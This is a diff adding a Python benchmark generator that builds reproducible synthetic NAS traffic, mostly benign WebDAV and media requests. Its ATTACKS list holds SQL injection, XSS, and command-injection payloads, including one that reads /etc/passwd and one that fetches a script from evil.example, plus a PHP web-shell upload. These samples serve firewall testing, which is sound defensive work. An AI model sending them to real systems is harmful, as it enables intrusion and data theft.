@@ -0,0 +1,139 @@
+"""
+基准测试使用的合成流量：家用 NAS 的正常访问（WebDAV、媒体播放、管理接口）和常见攻击载荷
+
+generate() 对同一组参数和 seed 生成完全相同的请求序列，不同提交之间的基准结果可以直接比较。
+正常请求来自 clients 个不同的地址（IPv4 和 IPv6 各半），攻击请求来自单独的一组地址，
+攻击地址被加入黑名单不会影响正常客户端。
+"""
+import base64
+import json
+import random
+from typing import NamedTuple
+
+BROWSER_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36"
+USER_AGENTS = [
+    BROWSER_UA,
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
+    "Microsoft-WebDAV-MiniRedir/10.0.19045",
+    "VLC/3.0.20 LibVLC/3.0.20",
+    "Kodi/20.2 (Linux; Android 12)",
+    "rclone/v1.66.0",
+]
+FOLDERS = ["docs", "photos/2024", "photos/2023/travel", "music/jazz", "backup/laptop", "shared/family"]
+FILES = ["report.pdf", "IMG_0001.jpg", "IMG_2048.HEIC", "notes.txt", "budget.xlsx", "track01.flac", "archive.tar.gz"]
+MOVIES = ["movie.mkv", "episode-s01e03.mp4", "concert-2023.mkv", "holiday.mov"]
+
+# (分类, 方法, 路径, 查询串, 请求头, 请求体)，路径和查询串为编码后的形式
+ATTACKS = [
+    ("sql_injection", "GET", "/api/files/list",
+     "path=%2F&sort=name%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--", {}, ""),
+    ("sql_injection", "GET", "/api/v1/users", "id=1%27%20OR%201=1--", {}, ""),
+    ("sql_injection", "POST", "/api/files/rename", "", {"content-type": "application/json"},
+     '{"from": "a.txt", "to": "b.txt\'; DROP TABLE files; --"}'),
+    ("sql_injection", "GET", "/", "", {"user-agent": "sqlmap/1.8 ' UNION SELECT 1,2,3--"}, ""),
+    ("xss", "GET", "/api/search", "q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", {}, ""),
+    ("xss", "POST", "/api/shares", "", {"content-type": "application/json"},
+     '{"name": "album", "comment": "<img src=x onerror=alert(1)>"}'),
+    ("xss", "GET", "/photos/2024/", "", {"referer": "javascript:alert(1)"}, ""),
+    ("command_injection", "GET", "/api/tools/ping", "host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd", {}, ""),
+    ("command_injection", "POST", "/api/tools/traceroute", "", {"content-type": "application/x-www-form-urlencoded"},
+     "host=example.com%26%26wget%20http%3A%2F%2Fevil.example%2Fx.sh"),
+    ("command_injection", "GET", "/cgi-bin/luci", "cmd=%24(id)", {}, ""),
+    ("file_upload", "PUT", "/webdav/shared/family/shell.php", "", {"content-type": "application/octet-stream"},
+     "<?php system($_GET['c']); ?>"),
+]
+
+
+class Request(NamedTuple):
+    method: str
+    path: str
+    query: str
+    headers: dict
+    body: bytes
+    client: str
+    category: str  # 攻击分类，正常请求为空字符串
+
+    @property
+    def is_attack(self) -> bool:
+        return bool(self.category)
+
+    @property
+    def target(self) -> str:
+        return f"{self.path}?{self.query}" if self.query else self.path
+
+
+def client_pool(count: int, rng: random.Random, network: int) -> list:
+    """count 个不重复的地址，IPv4 和 IPv6 交替；network 区分正常客户端和攻击者的网段"""
+    clients = []
+    for i in range(count):
+        if i % 2 == 0:
+            clients.append(f"10.{network}.{i // 2 // 250 % 256}.{i // 2 % 250 + 1}")
+        else:
+            clients.append(f"2001:db8:{network:x}:{rng.randrange(65536):x}::{i:x}")
+    return clients
+
+
+def filler(size: int, rng: random.Random) -> str:
+    # base64 文本没有空白和标点，不会误中规则，同时是最坏情况的请求体扫描量
+    return base64.b64encode(rng.randbytes(size * 3 // 4 + 3)).decode("ascii")[:size]
+
+
+def benign_request(rng: random.Random, body_size: int, body_rng: random.Random) -> tuple:
+    """(方法, 路径, 查询串, 请求头, 请求体)"""
+    folder, name = rng.choice(FOLDERS), rng.choice(FILES)
+    kind = rng.random()
+    if kind < 0.2:
+        body = ('<?xml version="1.0"?><propfind xmlns="DAV:"><prop><getlastmodified/>'
+                '<getcontentlength/><resourcetype/></prop></propfind>')
+        return "PROPFIND", f"/webdav/{folder}/", "", {"depth": "1", "content-type": "application/xml"}, body
+    if kind < 0.4:
+        return "GET", f"/webdav/{folder}/{name}", "", {}, ""
+    if kind < 0.5:
+        headers = {"content-type": "application/octet-stream"} if body_size else {}
+        path = f"/webdav/backup/laptop/{rng.randrange(10 ** 6):06d}.bin"
+        return "PUT", path, "", headers, filler(body_size, body_rng)
+    if kind < 0.7:
+        start = rng.randrange(0, 1 << 30, 1 << 20)
+        return "GET", f"/media/movies/{rng.choice(MOVIES)}", "", {"range": f"bytes={start}-"}, ""
+    if kind < 0.8:
+        return "GET", f"/photos/{folder}/{name}", f"size=thumb&w={rng.choice([160, 320, 640])}", {}, ""
+    if kind < 0.9:
+        query = f"path=%2F{folder.replace('/', '%2F')}&page={rng.randrange(1, 20)}&size=50&sort=mtime&order=desc"
+        return "GET", "/api/files/list", query, {"accept": "application/json"}, ""
+    payload = {"from": f"/{folder}/{name}", "to": f"/{folder}/renamed-{name}"}
+    if body_size:
+        payload["note"] = filler(body_size, body_rng)
+    return "POST", "/api/files/rename", "", {"content-type": "application/json"}, json.dumps(payload)
+
+
+def generate(count: int, attack_ratio: float = 0.05, body_size: int = 0, clients: int = 1000,
+             attackers: int = 64, seed: int = 42) -> list:
+    # 请求序列、请求体内容和客户端地址各用一个随机数生成器，改变请求体大小或客户端数时请求序列不变
+    rng = random.Random(seed)
+    body_rng = random.Random(f"body-{seed}")
+    client_rng = random.Random(f"clients-{seed}")
+    client_addresses = client_pool(max(clients, 1), client_rng, network=1)
+    attacker_addresses = client_pool(max(attackers, 1), client_rng, network=66)
+    requests = []
+    for _ in range(count):
+        headers = {
+            "host": "nas.example.com",
+            "user-agent": rng.choice(USER_AGENTS),
+            "accept": "*/*",
+            "accept-language": "zh-CN,zh;q=0.9,en;q=0.8",
+            "accept-encoding": "gzip, deflate, br",
+            "connection": "keep-alive",
+        }
+        if rng.random() < attack_ratio:
+            category, method, path, query, extra, body = rng.choice(ATTACKS)
+            client = client_rng.choice(attacker_addresses)
+        else:
+            method, path, query, extra, body = benign_request(rng, body_size, body_rng)
+            category = ""
+            client = client_rng.choice(client_addresses)
+        headers.update(extra)
+        body = body.encode("utf-8")
+        if body:
+            headers["content-length"] = str(len(body))
+        requests.append(Request(method, path, query, headers, body, client, category))
+    return requests